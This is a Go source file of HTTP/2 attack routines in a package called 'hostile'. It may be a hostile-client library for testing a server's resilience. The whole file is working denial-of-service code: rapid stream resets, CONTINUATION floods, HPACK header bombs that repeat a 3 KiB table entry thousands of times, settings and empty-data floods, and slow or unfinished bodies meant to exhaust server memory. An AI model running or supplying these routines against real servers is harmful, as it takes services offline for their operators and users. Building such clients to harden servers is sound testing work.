package hostile

import (
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Silent says nothing after the preface.
func Silent(c *Conn) { c.hold() }

const (
	halfStreams = 300
	wholeBody   = 4 << 20
)

// HalfBodies sends 300 messages of 4 MiB, each without its last bytes.
func HalfBodies(c *Conn) {
	var streams sync.WaitGroup
	part := filler(16 << 10) // one for all: the attack is on the server's memory
	for range halfStreams {
		id, err := c.begin()
		if err != nil {
			break
		}
		streams.Go(func() {
			err := c.send(id, message(wholeBody-5))
			for sent := 0; err == nil && sent < wholeBody-2*len(part); sent += len(part) {
				err = c.send(id, part)
			}
		})
	}
	streams.Wait()
	c.hold()
}

// SlowBodies sends 50 messages at once, a byte of each a second.
func SlowBodies(c *Conn) {
	const streams = 50
	var ids []uint32
	for range streams {
		id, err := c.begin()
		if err != nil || c.send(id, message(1<<20)) != nil {
			return
		}
		ids = append(ids, id)
	}
	for c.ctx.Err() == nil {
		for _, id := range ids {
			if c.send(id, filler(1)) != nil {
				return
			}
		}
		pause(c.ctx, time.Second)
	}
}

// RapidResets opens streams and resets them at once.
func RapidResets(c *Conn) {
	for c.ctx.Err() == nil {
		id, err := c.begin()
		if err != nil || c.framer.WriteRSTStream(id, http2.ErrCodeCancel) != nil {
			return
		}
	}
}

// Continuations sends headers that go on and on.
func Continuations(c *Conn) {
	if c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: c.next, BlockFragment: block()}) != nil {
		return
	}
	more := block(hpack.HeaderField{Name: "x-more", Value: strings.Repeat("y", 8<<10)})
	for c.ctx.Err() == nil {
		if c.framer.WriteContinuation(c.next, false, more) != nil {
			return
		}
	}
}

// HeaderBombs sends small blocks of headers that stand for large ones: a value in
// the dynamic table, referred to again and again.
func HeaderBombs(c *Conn) {
	const value, references = 3 << 10, 4000
	for first := true; c.ctx.Err() == nil; first = false {
		bomb := block()
		if first { // literal with indexing, new name
			bomb = append(bomb, 0x40, 1, 'x')
			bomb = append(bomb, 0x7f, 0x81, 0x17) // a length of 3072, not Huffman
			bomb = append(bomb, filler(value)...)
		}
		for range references {
			bomb = append(bomb, 0x80|62) // the newest entry of the dynamic table
		}
		id := c.next
		c.next += 2
		if c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: bomb, EndHeaders: true}) != nil {
			return
		}
	}
}

// Settings sends settings that change nothing.
func Settings(c *Conn) {
	for c.ctx.Err() == nil {
		if c.framer.WriteSettings() != nil {
			return
		}
	}
}

// EmptyData sends data without any.
func EmptyData(c *Conn) {
	id, err := c.begin()
	for err == nil && c.ctx.Err() == nil {
		err = c.framer.WriteData(id, false, nil)
	}
}

// HalfBody sends one message of so many bytes, without its last ones.
func (c *Conn) HalfBody(size int) {
	id, err := c.begin()
	if err == nil {
		err = c.send(id, message(uint32(size)))
	}
	part := filler(8 << 10)
	for sent := 0; err == nil && sent < size-2*len(part); sent += len(part) {
		err = c.send(id, part)
	}
	c.hold()
}
